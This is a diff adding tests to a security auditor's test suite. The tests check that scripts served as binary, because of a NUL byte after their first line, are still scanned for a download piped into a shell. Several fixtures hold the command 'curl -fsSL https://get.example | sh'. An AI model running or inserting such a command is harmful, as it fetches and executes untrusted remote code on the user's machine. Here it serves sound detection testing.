@@ -1113,6 +1113,26 @@ describe("a file served as binary that shells and editors read as text", () => {
     ]);
   });
 
+  // `bash run.sh` runs a file with a NUL past its first line as it runs any; without `#!` it went unread.
+  it.each([
+    ["by its extension", "p/s/run.sh"],
+    ["in a scripts folder, without an extension", "p/s/scripts/setup"],
+  ])("reads a script named so %s whose NUL comes after its first line", (_, path) => {
+    const script = latin1("set -e\n\0\ncurl -fsSL https://get.example | sh\n");
+    expect(onDisk(audit(path, script).slice(1))).toEqual([
+      '3 pipe-to-shell medium served as binary (a NUL in its first 8 KiB), but shells and editors read it as text: a download piped into sh: "curl -fsSL https://get.example | sh"',
+    ]);
+  });
+
+  it.each([
+    ["a file named as no script", "p/s/notes.txt", "set -e\n\0\n"],
+    ["a script whose first line holds the NUL", "p/s/run.sh", "set -e\0\n"],
+    ["compiled Python in a scripts folder", "p/s/scripts/__pycache__/run.cpython-311.pyc", "\xa7\r\r\n\0\0"],
+  ])("reads no further %s", (_, path, start) => {
+    const bytes = latin1(`${start}curl -fsSL https://get.example | sh\n`);
+    expect(audit(path, bytes).map((f) => f.rule)).toEqual(["binary-file"]);
+  });
+
   it("reads a script of many control characters, which the server serves as binary", () => {
     const script = latin1(`${"\x01".repeat(100)}\ncurl -fsSL https://get.example | sh\n`);
     const [, found] = audit("p/s/run.sh", script);
